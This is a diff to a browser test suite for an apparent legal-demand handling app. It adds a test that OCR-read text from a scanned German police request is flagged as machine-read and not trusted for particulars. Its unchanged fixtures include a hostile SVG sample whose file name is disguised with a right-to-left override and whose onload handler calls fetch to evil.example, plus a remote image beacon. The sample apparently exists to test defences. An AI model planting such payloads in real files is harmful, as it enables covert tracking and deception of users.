@@ -21,7 +21,8 @@ import several_ways
 import warm
 from accessibility import faults_of, violations
 from browser_desk import Client, Practice, Vault, typist
-from dueprocess.adapters import identity
+from drawn_letters import drawn
+from dueprocess.adapters import identity, scan_models
 from dueprocess.case.basis import basis_of
 from dueprocess.formats import page_images
 
@@ -29,7 +30,8 @@ pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 DEMAND = Path(__file__).resolve().parents[2] / "lab" / "dueprocess_lab" / "story" / "demands" / "02-no-provision.eml"
 ANOTHER = DEMAND.with_name("01-subscriber-talbach.eml")
-PDF = Path(__file__).resolve().parents[1] / "golden/demands/us-pdf-subpoena.pdf"
+SAMPLES = Path(__file__).resolve().parents[1] / "golden" / "demands"
+PDF = SAMPLES / "us-pdf-subpoena.pdf"
 HOSTILE = {
     "annex\u202egpj.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('https://evil.example/?svg')\">"
     b"<image href='https://evil.example/pixel.png'/></svg>",
@@ -67,6 +69,7 @@ def paged() -> dict[str, bytes]:
         "scan.eml": mail.as_bytes(),
         "fax-g4.tif": fax,
         "scan.pdf": pdf_samples.scanned(3),
+        "words.pdf": drawn((SAMPLES / "de-stpo-100j-police.txt").read_text(), "de"),
         "many.pdf": pdf_samples.text(*["Seite"] * 43),
         "acting.pdf": pdf_samples.acting(),
         "stamped.pdf": pdf_samples.stamped(),
@@ -428,6 +431,23 @@ def test_a_scan_is_read_by_eye_and_the_form_is_filled_by_hand(vault: Vault, take
     assert vault.faults == []
 
 
+@pytest.mark.skipif(bool(scan_models.missing()), reason="no Tesseract: .ci/system-packages names it")
+def test_what_a_machine_read_in_pictures_is_said_beside_them(vault: Vault, taken: dict[str, str]) -> None:
+    vault.go(f"/case/{taken['words.pdf']}", ".face")
+    sheet(vault, 1)  # the picture first: it is what the person reads
+    assert "A machine read this: no number, account, date or amount was taken." in vault.tab.inner_text(".about")
+    vault.tab.click("button:text-is('Text that was read')")
+    frame = vault.frame()
+    frame.wait_for_selector(".line")
+    assert "Bestandsdaten" in frame.inner_text("body")
+    assert "Page 1: Latin, 200 dpi" in frame.inner_text("body")
+    assert "A machine read this" in vault.tab.inner_text(".about")
+    told = vault.tab.text_content(".particulars")
+    assert "Authority" in told
+    assert not [one for one in ("T1", "Their reference", "Until", "Law named") if one in told]
+    assert vault.faults == []
+
+
 def test_pages_by_button_by_list_and_by_key_larger_and_smaller(vault: Vault, taken: dict[str, str]) -> None:
     vault.go(f"/case/{taken['scan.pdf']}", ".face")
     frame = sheet(vault, 1)
@@ -474,7 +494,8 @@ def test_what_was_cut_off_is_said(vault: Vault, taken: dict[str, str]) -> None:
 def test_a_fax_and_the_scan_that_a_mail_brings_are_drawn(vault: Vault, taken: dict[str, str]) -> None:
     vault.go(f"/case/{taken['fax-g4.tif']}", ".face")
     assert ink(sheet(vault, 1)) > 1000
-    assert "A scan: these pages hold no text." in vault.tab.inner_text(".about")
+    said = "A scan: these pages hold no text." if scan_models.missing() else "A machine read this"
+    assert said in vault.tab.inner_text(".about")
     vault.go(f"/case/{taken['scan.eml']}", ".face")
     frame = vault.frame()
     frame.wait_for_selector("text=siehe Anlage")  # the mail first: who writes, and what they say
